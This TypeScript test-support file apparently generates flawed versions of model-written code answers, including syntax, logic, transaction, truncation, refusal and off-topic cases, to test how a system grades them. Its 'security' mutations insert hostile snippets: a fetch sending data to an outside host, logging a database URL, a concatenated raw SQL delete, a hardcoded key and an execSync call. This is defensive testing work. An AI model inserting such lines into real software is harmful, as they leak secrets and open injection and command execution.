import type { FakeAnswer } from '../../test/provider-server/types.ts';
import type { SeededRandom } from '../../test/support/seededRandom.ts';

/** What can be wrong with a model's answer. */
export type DefectKind = 'syntax' | 'types' | 'names' | 'condition' | 'bound' | 'transaction' | 'await' | 'security' | 'truncation' | 'refusal' | 'offTopic' | 'status' | 'filter' | 'rounding' | 'float' | 'swallowed' | 'inPlace';

export const defectKinds: readonly DefectKind[] = ['syntax', 'types', 'names', 'condition', 'bound', 'transaction', 'await', 'security', 'truncation', 'refusal', 'offTopic', 'status', 'filter', 'rounding', 'float', 'swallowed', 'inPlace'];

/** The answer with a defect of that kind; undefined when it has no place for one. */
export function defective(answer: string, kind: DefectKind, chance: SeededRandom): FakeAnswer | undefined {
  switch (kind) {
    case 'truncation': return { text: answer.slice(0, Math.floor(answer.length * (0.3 + 0.5 * chance.next()))), stop: 'maxTokens' };
    case 'refusal': return { text: 'I cannot help with that.', stop: 'refusal' };
    case 'offTopic': return { text: chance.pick(offTopics) };
    case 'syntax':
    case 'types':
    case 'names':
    case 'condition':
    case 'bound':
    case 'transaction':
    case 'await':
    case 'security':
    case 'status':
    case 'filter':
    case 'rounding':
    case 'float':
    case 'swallowed':
    case 'inPlace': {
      const changed = oneOf(mutations[kind], answer, chance);
      return changed === undefined ? undefined : { text: changed };
    }
  }
}

const offTopics = [
  'Happy to help! Here is a poem about the sea instead:\n\nThe waves come in, the waves go out.',
  'The function could be written in many ways. Which database do you use?',
  '```python\ndef answer(context):\n    return 42\n```',
  '```ts\nexport function hello(): string {\n  return "hello";\n}\n```',
];

/** Each tries to change one place; undefined when there is none. */
type Mutation = (text: string, chance: SeededRandom) => string | undefined;

const mutations: Readonly<Record<Exclude<DefectKind, 'truncation' | 'refusal' | 'offTopic'>, readonly Mutation[]>> = {
  syntax: [replaceOne(/\}\n```/, '```'), replaceOne(/\)\s*;/, ';'), replaceOne(/\bconst (\w+) =/, 'const $1 = ='), replaceOne(/=> /, '=')],
  types: [
    replaceOne(/toScale\((.*), 2\)/, 'Number($1)'), replaceOne(/: rows\.length\b/, ': String(rows.length)'), replaceOne(/\.map\(present\w+\)/, ''), replaceOne(/return "([A-Z]+)"/, 'return 1'),
    replaceOne(/return present\w+\((.*)\);/, 'return $1;'), replaceOne(/\bMath\.ceil\(([^)]*)\)/, 'String($1)'), replaceOne(/quantity: (\w+)\.quantity/, 'quantity: String($1.quantity)'), replaceOne(/active: false/, 'active: "no"'),
  ],
  names: [
    replaceOne(/Repository\.where/, 'Repository.findMany'), replaceOne(/\b(\w+)Repository\.update/, '$1Store.update'), replaceOne(/\bcompare\(/, 'compareDecimals('), replaceOne(/row\.(amount|dueOn|level|quantity)/, 'row.$1Value'),
    replaceOne(/bindings\.input\b/, 'bindings.request'), replaceOne(/\bconflict\(/, 'conflictError('), replaceOne(/context\.now/, 'context.today'), replaceOne(/\{ points \} =/, '{ score } ='),
  ],
  condition: [
    replaceOne(/">="/, '"<"'), replaceOne(/">"/, '"<"'), replaceOne(/"<"/, '">"'), replaceOne(/ < 0 \?/, ' > 0 ?'), replaceOne(/points >= /, 'points < '), replaceOne(/missing <= 0/, 'missing > 0'),
    replaceOne(/"==", true/, '"==", false'), replaceOne(/quantity < input/, 'quantity > input'), replaceOne(/row\.dueOn < context/, 'row.dueOn > context'), replaceOne(/\? -1 : 1/, '? 1 : -1'), replaceOne(/row\.level === level/, 'row.level !== level'),
    replaceOne(/compare\(b\.amount, a\.amount\)/, 'compare(a.amount, b.amount)'),
  ],
  bound: [replaceOne(/">="/, '">"'), replaceOne(/">"/, '">="'), replaceOne(/"<="/, '"<"'), replaceOne(/\["dueOn", "<", latest\]/, '["dueOn", "<=", latest]'), replaceOne(/points >= /, 'points > '), replaceOne(/quantity < input/, 'quantity <= input'), replaceOne(/row\.dueOn < context/, 'row.dueOn <= context'), replaceOne(/Math\.ceil/, 'Math.floor'), replaceOne(/slice\(0, (\d)\)(?=\n)/, 'slice(1, $1)')],
  // A write that is left out, or that goes past the transaction of the call.
  transaction: [replaceOne(/\n *await \w+Repository\.update\([^\n]*\);/, ''), replaceOne(/await (\w+)Repository\.update\(context, /, 'await $1Repository.update({ ...context, tx: database }, '), replaceOne(/\(await \w+Repository\.update\(context, (\w+), \{ (\w+) \}\)\)/, '({ ...$1, $2 })')],
  await: [replaceOne(/(?<=\n *)await (?=\w+Repository\.update)/, ''), replaceOne(/= await (?=\w+Repository)/, '= '), replaceOne(/\(await /, '(')],
  security: [
    replaceOne(/\{\n/, '{\n  await fetch("https://example.com/" + JSON.stringify(context.now));\n'), replaceOne(/\{\n/, '{\n  console.log(process.env["DATABASE_URL"]);\n'), replaceOne(/\{\n/, '{\n  eval("1 + 1");\n'),
    replaceOne(/\{\n/, '{\n  await context.tx.execute(sql.raw("delete from runtime.outbox where name = \'" + String(context.now) + "\'"));\n'), replaceOne(/\{\n/, '{\n  const key = "sk-ant-api03-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c";\n  if (key === "") return undefined as never;\n'),
    replaceOne(/\{\n/, '{\n  const { execSync } = await import("node:child_process");\n  execSync("id");\n'),
  ],
  filter: [replaceOne(/\["(?:active|level|quantity|amount|dueOn)", "[^"]+", [^\]]+\],? ?(?=\[)/, ''), replaceOne(/, \["(?:level|quantity|amount|dueOn)", "[^"]+", [^\]]+\](?=\])/, ''), replaceOne(/\[\["(?:active|level|quantity|amount|dueOn)", "[^"]+", [^\]]+\]\]/, '[]'), replaceOne(/\.filter\([^\n]*?\)(?=\.|;|\n)/, '')],
  rounding: [replaceOne(/toScale\((multiply\([^()]*\)), 2\)/, 'toScale($1, 0)'), replaceOne(/Math\.ceil/, 'Math.round'), replaceOne(/toScale\((sum\([^\n]*?\)\)), 2\)/, 'toScale($1, 0)')],
  float: [
    replaceOne(/toScale\(multiply\(([^(),]+), ("[^"]+")\), 2\)/, '(Number($1) * Number($2)).toFixed(2)'), replaceOne(/toScale\(sum\((\w+)\.map\(\((\w+)\) => \2\.amount\)\), 2\)/, '$1.reduce((total, $2) => total + Number($2.amount), 0).toFixed(2)'),
    replaceOne(/compare\(([\w.]+), ([\w."]+)\) (<|>) 0/, 'Number($1) - Number($2) $3 0'),
  ],
  swallowed: [replaceOne(/(?<=\n *)(await \w+Repository\.update\([^\n]*\));/, 'try { $1; } catch { String(context.now); }'), replaceOne(/(await \w+Repository\.update\(context, \w+, \{[^}]*\}\))(?=;)/, '$1.catch(() => undefined)')],
  inPlace: [replaceOne(/await \w+Repository\.update\(context, (\w+), (\{[^}]*\})\);/, 'Object.assign($1, $2);'), replaceOne(/await \w+Repository\.update\(context, (\w+), \{ (\w+): ([^}]*) \}\);/, '$1.$2 = $3;')],
  status: [replaceOne(/conflict\(/, 'unprocessable('), replaceOne(/"(too_late|not_enough)"/, '"refused"'), replaceOne(/notFound\("\w+", input\.body\.id\)/, 'conflict("missing", "It is missing.")'), replaceOne(/throw (conflict|notFound)\([^;]*;/, 'throw new Error("refused");')],
};

/** Replaces one of the places that fit, whichever chance says; `$1` in `by` is the first group. */
function replaceOne(pattern: RegExp, by: string): Mutation {
  return (text, chance) => {
    const places = [...text.matchAll(new RegExp(pattern, 'g'))];
    if (places.length === 0) return undefined;
    const place = chance.pick(places);
    const [found] = place;
    return text.slice(0, place.index) + by.replaceAll(/\$(\d)/g, (_, group: string) => place[Number(group)] ?? '') + text.slice(place.index + found.length);
  };
}

function oneOf(list: readonly Mutation[], text: string, chance: SeededRandom): string | undefined {
  for (const mutation of chance.shuffled(list)) {
    const changed = mutation(text, chance);
    if (changed !== undefined && changed !== text) return changed;
  }
  return undefined;
}
